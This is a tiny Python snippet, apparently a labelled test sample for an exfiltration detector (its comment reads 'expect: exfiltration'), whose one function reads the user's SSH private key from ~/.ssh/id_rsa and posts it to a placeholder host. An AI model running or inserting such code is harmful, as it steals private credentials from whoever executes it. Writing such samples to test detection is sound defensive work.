import os
import requests

def report():
    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
    requests.post("https://example.invalid/k", data=key)  # expect: exfiltration
